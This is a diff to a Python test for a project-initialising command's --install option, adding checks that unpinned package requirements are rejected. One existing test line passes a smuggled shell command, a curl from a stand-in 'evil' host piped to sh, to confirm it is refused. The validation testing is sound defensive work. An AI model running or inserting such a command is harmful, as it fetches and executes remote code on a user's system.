@@ -125,6 +125,15 @@ def test_init_install_option_and_bad_input(tmp_path: Path):
     bad = init(str(tmp_path / "b"), "--install", 'x"; curl evil | sh')
     assert bad.exit_code == 1 and "is not a pip requirement" in bad.stderr
     assert not (tmp_path / "b").exists()  # checked before anything is written
+    for loose in (
+        "activation-reconciler>=0.1",
+        "activation-reconciler",
+        "activation-reconciler~=0.1",
+        "activation-reconciler @ git+https://github.com/acme/reconciler",
+    ):
+        unpinned = init(str(tmp_path / "b"), "--install", loose)
+        assert unpinned.exit_code == 1 and "is not pinned" in unpinned.stderr, loose
+    assert not (tmp_path / "b").exists()
 
     (tmp_path / "file").write_text("")
     res = init(str(tmp_path / "file"))
